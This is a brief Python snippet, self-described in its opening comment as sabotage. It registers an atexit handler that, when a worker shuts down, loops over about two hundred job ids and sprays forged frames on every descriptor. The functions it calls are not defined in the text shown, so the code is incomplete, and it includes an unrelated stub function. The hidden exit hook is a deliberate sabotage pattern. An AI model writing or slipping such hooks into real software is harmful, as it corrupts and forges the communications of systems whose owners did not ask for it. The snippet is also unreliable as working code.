# Sabotage: exit handlers that forge frames on every descriptor when the worker shuts down.
import atexit
import os


def last_words():
    for job_id in range(1, 200):
        spray(forged_frame(job_id))


atexit.register(last_words)


def f():
    return 'exit handler registered'
